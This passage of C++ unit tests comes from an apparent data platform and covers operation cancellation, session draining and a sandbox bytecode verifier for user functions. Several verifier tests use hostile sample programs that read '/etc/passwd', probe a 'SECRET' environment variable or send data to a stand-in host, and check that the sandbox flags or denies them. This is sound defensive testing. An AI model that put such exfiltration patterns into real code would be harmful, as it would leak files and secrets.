  EXPECT_TRUE(fetch.status().IsCancelled()) << fetch.status();

  // Second cancel: idempotent no-op, never an error.
  EXPECT_TRUE(
      cluster_->service->CancelOperation(client->session_id(), "op-cancel")
          .ok());
  EXPECT_EQ(cluster_->service->service_stats().cancels, 1u);
  EXPECT_GE(cluster_->service->service_stats().cancel_noops, 1u);
}

TEST_F(ConnectLifecycleTest, CancelledStatusIsTypedThroughTheClient) {
  auto client = platform_.Connect(cluster_, "tok");
  ASSERT_TRUE(client.ok());
  ASSERT_TRUE(StartStreamingOp(*client, "op-typed"));

  // Cancel over the wire via the client's RPC.
  ASSERT_TRUE(client->CancelOperation("op-typed").ok());

  // A client retry reattaching to the cancelled operation gets kCancelled
  // end to end — typed through the wire, and never transparently retried
  // (kCancelled is not transient).
  auto table = client->ExecutePlanRemote(
      client->FromBatch(BigBatch(7000)).plan(), "op-typed");
  ASSERT_FALSE(table.ok());
  EXPECT_TRUE(table.status().IsCancelled()) << table.status();
}

TEST_F(ConnectLifecycleTest, CancellingAnotherSessionsOperationIsDenied) {
  auto owner = platform_.Connect(cluster_, "tok");
  ASSERT_TRUE(owner.ok());
  ASSERT_TRUE(StartStreamingOp(*owner, "op-mine"));
  auto other = platform_.Connect(cluster_, "tok");
  ASSERT_TRUE(other.ok());
  EXPECT_TRUE(cluster_->service
                  ->CancelOperation(other->session_id(), "op-mine")
                  .IsPermissionDenied());
  // The operation is untouched.
  EXPECT_EQ(cluster_->service->LiveOperationCount(), 1u);
}

TEST_F(ConnectLifecycleTest, OperationDeadlineBlocksEvenBufferedChunks) {
  auto client = platform_.Connect(cluster_, "tok");
  ASSERT_TRUE(client.ok());
  // 100 ms budget; every result-stream fetch costs 250 ms of modeled time.
  client->set_operation_deadline_micros(100'000);
  ScopedFault slow_stream("connect.stream",
                          FaultPolicy::AddLatencyMicros(250'000));
  auto table = client->ExecutePlanRemote(
      client->FromBatch(BigBatch(7000)).plan());
  ASSERT_FALSE(table.ok());
  EXPECT_TRUE(table.status().IsDeadlineExceeded()) << table.status();
  EXPECT_EQ(cluster_->service->service_stats().deadline_ops, 1u);
}

TEST_F(ConnectLifecycleTest, DrainRejectsNewSessionsButFinishesInFlight) {
  auto client = platform_.Connect(cluster_, "tok");
  ASSERT_TRUE(client.ok());
  ASSERT_TRUE(StartStreamingOp(*client, "op-drain", 6000));

  cluster_->service->BeginDrain();
  EXPECT_TRUE(cluster_->service->draining());

  // New sessions bounce with a typed *retryable* status: clients fail over
  // to another replica instead of reporting a user error.
  auto rejected = platform_.Connect(cluster_, "tok");
  ASSERT_FALSE(rejected.ok());
  EXPECT_TRUE(rejected.status().IsUnavailable()) << rejected.status();
  EXPECT_TRUE(IsTransientError(rejected.status()));
  EXPECT_GE(cluster_->service->service_stats().drain_rejects, 1u);

  // The in-flight operation keeps fetching to completion.
  EXPECT_FALSE(cluster_->service->DrainComplete());
  for (uint64_t i = 0;; ++i) {
    auto chunk =
        cluster_->service->FetchChunk(client->session_id(), "op-drain", i);
    ASSERT_TRUE(chunk.ok()) << chunk.status();
    if (chunk->last) break;
  }
  EXPECT_TRUE(cluster_->service->DrainComplete());

  // EndDrain restores admission (test-only convenience).
  cluster_->service->EndDrain();
  EXPECT_TRUE(platform_.Connect(cluster_, "tok").ok());
}

TEST_F(ConnectLifecycleTest, ForceDrainCancelsEveryLiveOperation) {
  auto client = platform_.Connect(cluster_, "tok");
  ASSERT_TRUE(client.ok());
  ASSERT_TRUE(StartStreamingOp(*client, "op-a"));
  ASSERT_TRUE(StartStreamingOp(*client, "op-b"));
  cluster_->service->BeginDrain();
  EXPECT_FALSE(cluster_->service->DrainComplete());
  EXPECT_EQ(cluster_->service->CancelAllOperations("shutdown"), 2u);
  EXPECT_TRUE(cluster_->service->DrainComplete());
  EXPECT_EQ(cluster_->service->LiveOperationCount(), 0u);
}

TEST_F(ConnectLifecycleTest, ExpireIdleSessionsReleasesOperationsAtomically) {
  auto client = platform_.Connect(cluster_, "tok");
  ASSERT_TRUE(client.ok());
  ASSERT_TRUE(StartStreamingOp(*client, "op-idle"));
  ASSERT_EQ(cluster_->service->LiveOperationCount(), 1u);

  platform_.simulated_clock()->AdvanceMicros(3'600'000'000LL);
  EXPECT_EQ(cluster_->service->ExpireIdleSessions(1'800'000'000LL), 1u);

  // One pass: session tombstoned AND its operation stream torn down — no
  // window where the session is gone but the stream lingers.
  EXPECT_EQ(cluster_->service->ActiveSessionCount(), 0u);
  EXPECT_EQ(cluster_->service->LiveOperationCount(), 0u);
  EXPECT_GE(cluster_->service->service_stats().expired_operations, 1u);
  EXPECT_TRUE(cluster_->service->FetchChunk(client->session_id(), "op-idle", 0)
                  .status()
                  .IsNotFound());
}

TEST_F(ConnectLifecycleTest, CancelRacesLazyFetchWithoutLeakingAStream) {
  auto client = platform_.Connect(cluster_, "tok");
  ASSERT_TRUE(client.ok());
  ASSERT_TRUE(StartStreamingOp(*client, "op-race", 20'000));

  // One thread fetches lazily-produced chunks; the other cancels mid-way.
  // Whatever interleaving wins, every fetch answer is either a chunk or the
  // typed kCancelled — and the operation ends not-live with its stream gone.
  std::atomic<bool> saw_cancelled{false};
  std::thread fetcher([&] {
    for (uint64_t i = 0; i < 20; ++i) {
      auto chunk =
          cluster_->service->FetchChunk(client->session_id(), "op-race", i);
      if (!chunk.ok()) {
        if (chunk.status().IsCancelled()) saw_cancelled.store(true);
        break;
      }
      if (chunk->last) break;
    }
  });
  std::thread canceller([&] {
    (void)cluster_->service->CancelOperation(client->session_id(), "op-race");
  });
  fetcher.join();
  canceller.join();
  EXPECT_EQ(cluster_->service->LiveOperationCount(), 0u);
  auto after =
      cluster_->service->FetchChunk(client->session_id(), "op-race", 0);
  EXPECT_TRUE(after.status().IsCancelled()) << after.status();
  (void)saw_cancelled;  // interleaving-dependent; the invariants above aren't
}

TEST_F(ConnectLifecycleTest, ExpirerRacesFetchesWithoutCorruption) {
  auto client = platform_.Connect(cluster_, "tok");
  ASSERT_TRUE(client.ok());
  ASSERT_TRUE(StartStreamingOp(*client, "op-exp", 20'000));

  std::thread fetcher([&] {
    for (uint64_t i = 0; i < 20; ++i) {
      auto chunk =
          cluster_->service->FetchChunk(client->session_id(), "op-exp", i);
      if (!chunk.ok() || chunk->last) break;
    }
  });
  std::thread expirer([&] {
    // Idle threshold 0 with a virtual clock that never advances: the
    // session's last activity equals "now", so expiry only wins the race
    // when it observes a stale timestamp — either outcome must be clean.
    platform_.simulated_clock()->AdvanceMicros(1);
    (void)cluster_->service->ExpireIdleSessions(0);
  });
  fetcher.join();
  expirer.join();
  // Whichever side won, the map invariants hold.
  if (cluster_->service->ActiveSessionCount() == 0) {
    EXPECT_EQ(cluster_->service->LiveOperationCount(), 0u);
  }
}

// ---- eFGAC: spill-object lifecycle under cancellation -----------------------------

class EfgacLifecycleTest : public ::testing::Test {
 protected:
  EfgacLifecycleTest() {
    FaultInjector::Instance().Reset();
    FaultInjector::Instance().Reseed(19);
    EXPECT_TRUE(platform_.AddUser("admin").ok());
    EXPECT_TRUE(platform_.AddUser("eve").ok());
    platform_.AddMetastoreAdmin("admin");
    EXPECT_TRUE(platform_.catalog().CreateCatalog("admin", "main").ok());
    EXPECT_TRUE(platform_.catalog().CreateSchema("admin", "main.s").ok());
    setup_ = platform_.CreateStandardCluster();
    admin_ctx_ = *platform_.DirectContext(setup_, "admin");

    Must("CREATE TABLE main.s.wide (payload STRING)");
    std::string filler(1000, 'x');
    for (int chunk = 0; chunk < 4; ++chunk) {
      std::string sql = "INSERT INTO main.s.wide VALUES ('" + filler + "')";
      for (int i = 1; i < 100; ++i) sql += ", ('" + filler + "')";
      Must(sql);
    }
    Must("ALTER TABLE main.s.wide SET ROW FILTER (TRUE)");
    Must("GRANT USE CATALOG ON main TO eve");
    Must("GRANT USE SCHEMA ON main.s TO eve");
    Must("GRANT SELECT ON main.s.wide TO eve");

    dedicated_ = platform_.CreateDedicatedCluster("eve", /*is_group=*/false);
    eve_ctx_ = *platform_.DirectContext(dedicated_, "eve");
  }
  ~EfgacLifecycleTest() override { FaultInjector::Instance().Reset(); }

  void Must(const std::string& sql) {
    auto result = setup_->engine->ExecuteSql(sql, admin_ctx_);
    ASSERT_TRUE(result.ok()) << sql << " -> " << result.status();
  }

  PlanPtr WidePlan() {
    auto stmt = ParseSql("SELECT payload FROM main.s.wide");
    EXPECT_TRUE(stmt.ok());
    return std::get<SelectStatement>(*stmt).plan;
  }

  LakeguardPlatform platform_;
  ClusterHandle* setup_ = nullptr;
  ClusterHandle* dedicated_ = nullptr;
  ExecutionContext admin_ctx_;
  ExecutionContext eve_ctx_;
};

TEST_F(EfgacLifecycleTest, CancelledConsumerDeletesPendingSpillObjects) {
  platform_.serverless_backend().ResetStats();
  size_t objects_before = platform_.store().ObjectCount();

  CancellationSource source;
  auto stream = platform_.serverless_backend().ExecuteRemoteStream(
      WidePlan(), "eve", source.token());
  ASSERT_TRUE(stream.ok()) << stream.status();
  ASSERT_EQ(platform_.serverless_backend().stats().spilled_results, 1u);
  EXPECT_GT(platform_.store().ObjectCount(), objects_before);

  auto first = (*stream)->Next();
  ASSERT_TRUE(first.ok());
  ASSERT_TRUE(first->has_value());

  source.Cancel("origin query cancelled");
  auto next = (*stream)->Next();
  EXPECT_TRUE(next.status().IsCancelled()) << next.status();

  // Teardown sweeps every unread part object — nothing orphaned in the
  // store, and the counter owns up to each deletion.
  stream->reset();
  EXPECT_EQ(platform_.store().ObjectCount(), objects_before);
  EXPECT_GT(platform_.serverless_backend().stats().spill_parts_deleted, 0u);
}

TEST_F(EfgacLifecycleTest, PreCancelledTokenFailsTypedWithoutLeak) {
  platform_.serverless_backend().ResetStats();
  size_t objects_before = platform_.store().ObjectCount();
  CancellationSource source;
  source.Cancel("cancelled before the remote call");
  auto stream = platform_.serverless_backend().ExecuteRemoteStream(
      WidePlan(), "eve", source.token());
  ASSERT_FALSE(stream.ok());
  EXPECT_TRUE(stream.status().IsCancelled()) << stream.status();
  EXPECT_EQ(platform_.store().ObjectCount(), objects_before);
}

TEST_F(EfgacLifecycleTest, OriginStreamCancelCleansRemoteSpill) {
  size_t objects_before = platform_.store().ObjectCount();
  // Full integration: the Dedicated cluster's RemoteScan executes on the
  // serverless backend and spills; cancelling the *origin* stream must tear
  // down the remote consume iterator, deleting the unread spill parts.
  auto stream = dedicated_->engine->ExecuteSqlStreaming(
      "SELECT payload FROM main.s.wide", eve_ctx_);
  ASSERT_TRUE(stream.ok()) << stream.status();
  auto first = (*stream)->Next();
  ASSERT_TRUE(first.ok());
  ASSERT_TRUE(first->has_value());
  EXPECT_GT(platform_.store().ObjectCount(), objects_before);

  (*stream)->Cancel("origin cancelled");
  EXPECT_TRUE((*stream)->Next().status().IsCancelled());
  EXPECT_EQ((*stream)->stats().resident_batches, 0u);
  EXPECT_EQ(platform_.store().ObjectCount(), objects_before);
}

}  // namespace
}  // namespace lakeguard
