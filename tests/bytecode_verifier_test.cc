// Tests for src/udf/verifier: the admission-time bytecode verifier.
//
//  * certificate contents for the canned programs (hosts, cost, taint);
//  * rejection of malformed programs, one mutation per verifier pass;
//  * AdmitCertificate policy semantics (capability / divergence / taint /
//    fuel / stack), with exact typed statuses and retryability;
//  * the certificate cache (hit/miss accounting, negative caching);
//  * differential fuzzing: >=10k random programs — every program the
//    verifier ACCEPTS must execute in the LGVM without ever hitting a
//    "vm integrity" trap or kInternal, and within its certified cost and
//    stack bounds;
//  * wire-level fuzzing: truncations and single-bit flips of serialized
//    programs either fail to decode, fail to verify, or run safely.

#include <gtest/gtest.h>

#include <atomic>
#include <random>
#include <string>
#include <thread>
#include <vector>

#include "common/retry.h"
#include "udf/builder.h"
#include "udf/bytecode.h"
#include "udf/verifier/cache.h"
#include "udf/verifier/verifier.h"
#include "udf/vm.h"

namespace lakeguard {
namespace {

uint32_t HostBit(HostFn fn) { return uint32_t{1} << static_cast<uint32_t>(fn); }

// ---- Certificates for the canned corpus -------------------------------------

TEST(VerifierCertificateTest, SumUdfIsBenign) {
  auto cert = VerifyBytecode(canned::SumUdf());
  ASSERT_TRUE(cert.ok()) << cert.status();
  EXPECT_FALSE(cert->guaranteed_divergent);
  EXPECT_EQ(cert->reachable_hosts, 0u);
  EXPECT_EQ(cert->tainted_sink_args, 0u);
  EXPECT_NE(cert->worst_case_cost, kUnboundedCost);
  EXPECT_GT(cert->worst_case_cost, 0);
  EXPECT_GE(cert->max_stack_height, 2u);  // two operands meet at kAdd
  EXPECT_EQ(cert->num_args, 2u);
  EXPECT_EQ(cert->program_sha256, ProgramSha256(canned::SumUdf()));
}

TEST(VerifierCertificateTest, LoopingProgramHasUnboundedCost) {
  // HashUdf iterates: a reachable back edge makes the instruction count
  // input-independent but statically unbounded.
  auto cert = VerifyBytecode(canned::HashUdf(10));
  ASSERT_TRUE(cert.ok()) << cert.status();
  EXPECT_FALSE(cert->guaranteed_divergent);
  EXPECT_EQ(cert->worst_case_cost, kUnboundedCost);
}

TEST(VerifierCertificateTest, HostReachabilityIsRecorded) {
  auto file = VerifyBytecode(canned::FileExfiltrationUdf("/etc/passwd"));
  ASSERT_TRUE(file.ok());
  EXPECT_EQ(file->reachable_hosts, HostBit(HostFn::kReadFile));

  auto env = VerifyBytecode(canned::EnvProbeUdf("SECRET"));
  ASSERT_TRUE(env.ok());
  EXPECT_EQ(env->reachable_hosts, HostBit(HostFn::kGetEnv));
}

TEST(VerifierCertificateTest, NetworkExfiltrationTaintsArgumentZero) {
  auto cert = VerifyBytecode(canned::NetworkExfiltrationUdf("http://x/"));
  ASSERT_TRUE(cert.ok());
  EXPECT_EQ(cert->reachable_hosts, HostBit(HostFn::kHttpGet));
  EXPECT_TRUE(cert->ArgFlowsToSink(0));
}

TEST(VerifierCertificateTest, Sha256Declassifies) {
  // write_file("/r", sha256(arg0)): the sink is reachable but arg0's taint
  // is laundered through the hash — no tainted sink argument.
  UdfBuilder b("digest", 1, TypeKind::kBool);
  b.PushConst(Value::String("/r"));
  b.LoadArg(0).Sha256Op();
  b.CallHost(HostFn::kWriteFile, 2);
  b.Ret();
  auto cert = VerifyBytecode(*b.Build());
  ASSERT_TRUE(cert.ok());
  EXPECT_EQ(cert->reachable_hosts, HostBit(HostFn::kWriteFile));
  EXPECT_EQ(cert->tainted_sink_args, 0u);
}

TEST(VerifierCertificateTest, TaintSurvivesConcatAndConversions) {
  // write_file("/r", "p" || to_string(arg1)): arg1 reaches the sink.
  UdfBuilder b("leak", 2, TypeKind::kBool);
  b.PushConst(Value::String("/r"));
  b.PushConst(Value::String("p"));
  b.LoadArg(1).ToStringOp().Concat();
  b.CallHost(HostFn::kWriteFile, 2);
  b.Ret();
  auto cert = VerifyBytecode(*b.Build());
  ASSERT_TRUE(cert.ok());
  EXPECT_FALSE(cert->ArgFlowsToSink(0));
  EXPECT_TRUE(cert->ArgFlowsToSink(1));
}

TEST(VerifierCertificateTest, InfiniteLoopIsGuaranteedDivergent) {
  auto cert = VerifyBytecode(canned::InfiniteLoopUdf());
  ASSERT_TRUE(cert.ok()) << cert.status();
  EXPECT_TRUE(cert->guaranteed_divergent);
  EXPECT_EQ(cert->worst_case_cost, kUnboundedCost);
}

// ---- Malformed programs: one mutation per verifier pass ---------------------

UdfBytecode Raw(std::vector<Instruction> code, uint32_t args = 0,
                uint32_t locals = 0, std::vector<Value> consts = {}) {
  UdfBytecode bc;
  bc.name = "raw";
  bc.num_args = args;
  bc.num_locals = locals;
  bc.return_type = TypeKind::kInt64;
  bc.const_pool = std::move(consts);
  bc.code = std::move(code);
  return bc;
}

TEST(VerifierRejectionTest, StructuralViolations) {
  // Pass 1: CFG/bounds. Every rejection is typed kInvalidArgument.
  EXPECT_TRUE(VerifyBytecode(Raw({})).status().IsInvalidArgument());
  EXPECT_TRUE(VerifyBytecode(Raw({{OpCode::kJump, 99, 0},
                                  {OpCode::kReturn, 0, 0}}))
                  .status()
                  .IsInvalidArgument());
  EXPECT_TRUE(VerifyBytecode(Raw({{OpCode::kPushConst, 5, 0},
                                  {OpCode::kReturn, 0, 0}}))
                  .status()
                  .IsInvalidArgument());
  EXPECT_TRUE(VerifyBytecode(Raw({{OpCode::kLoadArg, 2, 0},
                                  {OpCode::kReturn, 0, 0}},
                                 /*args=*/1))
                  .status()
                  .IsInvalidArgument());
  EXPECT_TRUE(VerifyBytecode(Raw({{OpCode::kLoadLocal, 0, 0},
                                  {OpCode::kReturn, 0, 0}}))
                  .status()
                  .IsInvalidArgument());
  // Falling off the end of code (no return on the fall-through path).
  EXPECT_TRUE(VerifyBytecode(Raw({{OpCode::kPushConst, 0, 0},
                                  {OpCode::kPop, 0, 0}},
                                 0, 0, {Value::Int(1)}))
                  .status()
                  .IsInvalidArgument());
}

TEST(VerifierRejectionTest, StackEffectViolations) {
  // Pass 2: underflow and join-height mismatches.
  EXPECT_TRUE(VerifyBytecode(Raw({{OpCode::kAdd, 0, 0},
                                  {OpCode::kReturn, 0, 0}}))
                  .status()
                  .IsInvalidArgument());
  EXPECT_TRUE(VerifyBytecode(Raw({{OpCode::kReturn, 0, 0}}))
                  .status()
                  .IsInvalidArgument());
  // Unbalanced loop: the loop head is reached at heights 0 and 1.
  EXPECT_TRUE(VerifyBytecode(Raw({{OpCode::kPushConst, 0, 0},
                                  {OpCode::kJump, 0, 0},
                                  {OpCode::kReturn, 0, 0}},
                                 0, 0, {Value::Int(1)}))
                  .status()
                  .IsInvalidArgument());
}

TEST(VerifierRejectionTest, TypeViolations) {
  // Pass 2: abstract types. String can never satisfy AsCondition.
  EXPECT_TRUE(VerifyBytecode(Raw({{OpCode::kPushConst, 0, 0},
                                  {OpCode::kNot, 0, 0},
                                  {OpCode::kReturn, 0, 0}},
                                 0, 0, {Value::String("x")}))
                  .status()
                  .IsInvalidArgument());
  // String + string arithmetic traps in the VM; the verifier sees it.
  EXPECT_TRUE(VerifyBytecode(Raw({{OpCode::kPushConst, 0, 0},
                                  {OpCode::kPushConst, 0, 0},
                                  {OpCode::kAdd, 0, 0},
                                  {OpCode::kReturn, 0, 0}},
                                 0, 0, {Value::String("x")}))
                  .status()
                  .IsInvalidArgument());
}

TEST(VerifierRejectionTest, HostCallViolations) {
  // Pass 1b: unknown host id and wrong arity die statically.
  EXPECT_TRUE(VerifyBytecode(Raw({{OpCode::kCallHost, 99, 0},
                                  {OpCode::kReturn, 0, 0}}))
                  .status()
                  .IsInvalidArgument());
  // read_file takes exactly one argument.
  EXPECT_TRUE(VerifyBytecode(
                  Raw({{OpCode::kPushConst, 0, 0},
                       {OpCode::kPushConst, 0, 0},
                       {OpCode::kCallHost,
                        static_cast<int32_t>(HostFn::kReadFile), 2},
                       {OpCode::kReturn, 0, 0}},
                      0, 0, {Value::String("/p")}))
                  .status()
                  .IsInvalidArgument());
}

// ---- AdmitCertificate policy semantics --------------------------------------

TEST(AdmissionTest, UngrantedCapabilityIsPermissionDenied) {
  auto cert = VerifyBytecode(canned::FileExfiltrationUdf("/etc/passwd"));
  ASSERT_TRUE(cert.ok());
  Status denied =
      AdmitCertificate(*cert, SandboxPolicy::LockedDown(), /*tainted=*/0);
  EXPECT_TRUE(denied.IsPermissionDenied()) << denied;
  EXPECT_FALSE(IsTransientError(denied));

  SandboxPolicy reader = SandboxPolicy::LockedDown();
  reader.allow_file_read = true;
  EXPECT_TRUE(AdmitCertificate(*cert, reader, 0).ok());
}

TEST(AdmissionTest, GuaranteedDivergenceIsInvalidArgument) {
  auto cert = VerifyBytecode(canned::InfiniteLoopUdf());
  ASSERT_TRUE(cert.ok());
  Status status =
      AdmitCertificate(*cert, SandboxPolicy::LockedDown(), /*tainted=*/0);
  EXPECT_TRUE(status.IsInvalidArgument()) << status;
  EXPECT_FALSE(IsTransientError(status));
}

TEST(AdmissionTest, TaintedSinkFlowIsPermissionDenied) {
  auto cert = VerifyBytecode(canned::NetworkExfiltrationUdf("http://x/"));
  ASSERT_TRUE(cert.ok());
  SandboxPolicy egress = SandboxPolicy::WithEgress({"x"});
  // Untainted binding: the owner sanctioned this egress, admission passes.
  EXPECT_TRUE(AdmitCertificate(*cert, egress, 0).ok());
  // The same program fed a protected column: rejected.
  Status leak =
      AdmitCertificate(*cert, egress, UdfCertificate::ArgTaintBit(0));
  EXPECT_TRUE(leak.IsPermissionDenied()) << leak;
}

TEST(AdmissionTest, FiniteCostOverFuelIsRetryableExhaustion) {
  auto cert = VerifyBytecode(canned::SumUdf());
  ASSERT_TRUE(cert.ok());
  SandboxPolicy tiny = SandboxPolicy::LockedDown();
  tiny.fuel = 1;  // below any real program's straight-line cost
  Status status = AdmitCertificate(*cert, tiny, 0);
  EXPECT_EQ(status.code(), StatusCode::kResourceExhausted) << status;
  EXPECT_TRUE(IsTransientError(status));

  SandboxPolicy shallow = SandboxPolicy::LockedDown();
  shallow.max_stack = 1;
  Status deep = AdmitCertificate(*cert, shallow, 0);
  EXPECT_EQ(deep.code(), StatusCode::kResourceExhausted) << deep;
}

// ---- Certificate cache ------------------------------------------------------

TEST(VerifierCacheTest, HitMissAccountingAndNegativeCaching) {
  VerifiedProgramCache cache;
  bool hit = true;
  auto first = cache.GetOrVerify(canned::SumUdf(), &hit);
  ASSERT_TRUE(first.ok());
  EXPECT_FALSE(hit);
  auto second = cache.GetOrVerify(canned::SumUdf(), &hit);
  ASSERT_TRUE(second.ok());
  EXPECT_TRUE(hit);
  EXPECT_EQ(second->program_sha256, first->program_sha256);

  // Negative caching: a malformed program's rejection is also served from
  // the cache (content addressing makes it safe — same bytes, same verdict).
  UdfBytecode bad = Raw({{OpCode::kJump, 99, 0}, {OpCode::kReturn, 0, 0}});
  EXPECT_FALSE(cache.GetOrVerify(bad, &hit).ok());
  EXPECT_FALSE(hit);
  EXPECT_FALSE(cache.GetOrVerify(bad, &hit).ok());
  EXPECT_TRUE(hit);

  VerifierCacheStats stats = cache.stats();
  EXPECT_EQ(stats.hits, 2u);
  EXPECT_EQ(stats.misses, 2u);
  EXPECT_EQ(stats.entries, 2u);
}

TEST(VerifierCacheTest, ConcurrentLookupsAreRaceFreeAndConsistent) {
  // 8 threads hammer one cache with the same small population (valid and
  // malformed programs interleaved). Under TSan this pins the sharded
  // locking; everywhere it pins that concurrent first-lookups of one
  // program all converge on one verdict and exactly one stored entry.
  VerifiedProgramCache cache;
  std::vector<UdfBytecode> population = {
      canned::SumUdf(), canned::HashUdf(3), canned::InfiniteLoopUdf(),
      Raw({{OpCode::kJump, 99, 0}, {OpCode::kReturn, 0, 0}}),
      Raw({{OpCode::kAdd, 0, 0}, {OpCode::kReturn, 0, 0}})};
  const size_t valid = 3;  // population[3..] must stay rejected
  constexpr int kThreads = 8;
  constexpr int kRounds = 200;
  std::vector<std::thread> threads;
  std::atomic<int> wrong_verdicts{0};
  threads.reserve(kThreads);
  for (int t = 0; t < kThreads; ++t) {
    threads.emplace_back([&, t] {
      for (int r = 0; r < kRounds; ++r) {
        size_t i = static_cast<size_t>(t + r) % population.size();
        auto cert = cache.GetOrVerify(population[i]);
        if (cert.ok() != (i < valid)) wrong_verdicts.fetch_add(1);
      }
    });
  }
  for (std::thread& t : threads) t.join();
  EXPECT_EQ(wrong_verdicts.load(), 0);
  VerifierCacheStats stats = cache.stats();
  EXPECT_EQ(stats.entries, population.size());
  EXPECT_EQ(stats.hits + stats.misses,
            static_cast<uint64_t>(kThreads) * kRounds);
  EXPECT_GE(stats.misses, population.size());
}

TEST(VerifierCacheTest, DistinctProgramsDistinctKeys) {
  EXPECT_NE(ProgramSha256(canned::SumUdf()),
            ProgramSha256(canned::HashUdf(3)));
  // The hash covers the wire encoding: renaming alone changes identity.
  UdfBytecode renamed = canned::SumUdf();
  renamed.name = "other";
  EXPECT_NE(ProgramSha256(renamed), ProgramSha256(canned::SumUdf()));
}

// ---- Differential fuzz: accepted => runs without integrity traps ------------

/// Host that grants everything and answers with the ABI-declared result
/// type — the most permissive environment an admitted program can meet, so
/// any divergence between verifier and VM surfaces instead of being masked
/// by a policy denial.
class AbiHost : public HostInterface {
 public:
  Result<Value> CallHost(HostFn fn, const std::vector<Value>&) override {
    switch (fn) {
      case HostFn::kReadFile:
      case HostFn::kHttpGet:
      case HostFn::kGetEnv:
        return Value::String("payload");
      case HostFn::kWriteFile:
        return Value::Bool(true);
      case HostFn::kClockNow:
        return Value::Int(1234);
      case HostFn::kLog:
        return Value::Null();
    }
    return Value::Null();
  }
};

bool IsIntegrityTrap(const Status& status) {
  return status.code() == StatusCode::kInternal ||
         status.message().find("vm integrity:") != std::string::npos;
}

Value RandomValue(std::mt19937& rng) {
  switch (rng() % 6) {
    case 0: return Value::Null();
    case 1: return Value::Bool(rng() % 2 == 0);
    case 2: return Value::Int(static_cast<int64_t>(rng() % 1000) - 500);
    case 3: return Value::Double((static_cast<double>(rng() % 1000)) / 7.0);
    case 4: return Value::String(std::string(rng() % 5, 'a' + rng() % 26));
    default: return Value::Binary(std::string(rng() % 4, '\x42'));
  }
}

/// Random program generator, biased toward verifiable shapes (operands
/// usually in range, a return usually reachable) so the accepted corpus is
/// large enough to be meaningful.
UdfBytecode RandomProgram(std::mt19937& rng) {
  UdfBytecode bc;
  bc.name = "fuzz";
  bc.num_args = rng() % 4;
  bc.num_locals = rng() % 3;
  bc.return_type = TypeKind::kInt64;
  const size_t num_consts = 1 + rng() % 4;
  for (size_t i = 0; i < num_consts; ++i) {
    bc.const_pool.push_back(RandomValue(rng));
  }
  const size_t len = 1 + rng() % 18;
  for (size_t i = 0; i < len; ++i) {
    Instruction ins;
    ins.op = static_cast<OpCode>(rng() % (kMaxOpCode + 1));
    switch (ins.op) {
      case OpCode::kPushConst:
        ins.operand = static_cast<int32_t>(rng() % (num_consts + 1));  // 1-in-n OOB
        break;
      case OpCode::kLoadArg:
        ins.operand = static_cast<int32_t>(rng() % (bc.num_args + 1));
        break;
      case OpCode::kLoadLocal:
      case OpCode::kStoreLocal:
        ins.operand = static_cast<int32_t>(rng() % (bc.num_locals + 1));
        break;
      case OpCode::kJump:
      case OpCode::kJumpIfFalse:
        ins.operand = static_cast<int32_t>(rng() % (len + 2));  // may be OOB
        break;
      case OpCode::kCallHost:
        ins.operand = static_cast<int32_t>(rng() % 7);   // may be unknown
        ins.operand2 = static_cast<int32_t>(rng() % 3);  // may be wrong arity
        break;
      default:
        break;
    }
    bc.code.push_back(ins);
  }
  bc.code.push_back({OpCode::kReturn, 0, 0});
  return bc;
}

/// Stack-height-aware generator: emits only instructions that are valid at
/// the current abstract stack height, with in-range operands and correct
/// host arities. Straight-line (no jumps), so most outputs verify — this
/// population drives the accepted half of the differential corpus.
UdfBytecode StackAwareProgram(std::mt19937& rng) {
  UdfBytecode bc;
  bc.name = "fuzz_sl";
  bc.num_args = rng() % 4;
  bc.num_locals = rng() % 3;
  bc.return_type = TypeKind::kInt64;
  const size_t num_consts = 1 + rng() % 4;
  for (size_t i = 0; i < num_consts; ++i) {
    // Bias constants toward ints so arithmetic mostly type-checks.
    switch (rng() % 8) {
      case 0: bc.const_pool.push_back(Value::Null()); break;
      case 1: bc.const_pool.push_back(Value::Bool(rng() % 2 == 0)); break;
      case 2: bc.const_pool.push_back(Value::Double(0.5)); break;
      case 3:
        bc.const_pool.push_back(
            Value::String(std::string(1 + rng() % 3, 'k')));
        break;
      default:
        bc.const_pool.push_back(
            Value::Int(static_cast<int64_t>(rng() % 100)));
        break;
    }
  }
  int height = 0;
  const size_t len = 3 + rng() % 15;
  for (size_t i = 0; i < len; ++i) {
    Instruction ins;
    const uint32_t roll = rng() % 100;
    if (height == 0 || roll < 40) {
      // Grow the stack.
      if (bc.num_args > 0 && rng() % 3 == 0) {
        ins = {OpCode::kLoadArg, static_cast<int32_t>(rng() % bc.num_args),
               0};
      } else if (bc.num_locals > 0 && rng() % 4 == 0) {
        ins = {OpCode::kLoadLocal,
               static_cast<int32_t>(rng() % bc.num_locals), 0};
      } else {
        ins = {OpCode::kPushConst, static_cast<int32_t>(rng() % num_consts),
               0};
      }
      ++height;
    } else if (height >= 2 && roll < 65) {
      static constexpr OpCode kBinary[] = {
          OpCode::kAdd, OpCode::kSub, OpCode::kMul, OpCode::kEq,
          OpCode::kNe,  OpCode::kLt,  OpCode::kLe,  OpCode::kConcat};
      ins = {kBinary[rng() % 8], 0, 0};
      --height;
    } else if (roll < 80) {
      static constexpr OpCode kUnary[] = {
          OpCode::kToString, OpCode::kToInt, OpCode::kToDouble,
          OpCode::kSha256,   OpCode::kDup,   OpCode::kLength};
      ins = {kUnary[rng() % 6], 0, 0};
      if (ins.op == OpCode::kDup) ++height;
    } else if (roll < 90 && bc.num_locals > 0) {
      ins = {OpCode::kStoreLocal, static_cast<int32_t>(rng() % bc.num_locals),
             0};
      --height;
    } else {
      // Correct-arity host call.
      static constexpr HostFn kFns[] = {HostFn::kClockNow, HostFn::kLog,
                                        HostFn::kGetEnv, HostFn::kReadFile,
                                        HostFn::kHttpGet, HostFn::kWriteFile};
      HostFn fn = kFns[rng() % 6];
      int argc = fn == HostFn::kClockNow ? 0
                 : fn == HostFn::kWriteFile ? 2
                                            : 1;
      if (argc > height) {
        ins = {OpCode::kPushConst, static_cast<int32_t>(rng() % num_consts),
               0};
        ++height;
      } else {
        ins = {OpCode::kCallHost, static_cast<int32_t>(fn), argc};
        height -= argc;
        ++height;
      }
    }
    bc.code.push_back(ins);
  }
  if (height == 0) {
    bc.code.push_back({OpCode::kPushConst, 0, 0});
  }
  bc.code.push_back({OpCode::kReturn, 0, 0});
  return bc;
}

/// Mutation population: canned programs (including loops) with a few random
/// instruction-level edits — operand nudges, opcode swaps, instruction
/// swaps. Exercises the verifier on almost-valid programs with real CFGs.
UdfBytecode MutatedCanned(std::mt19937& rng) {
  UdfBytecode bc;
  switch (rng() % 6) {
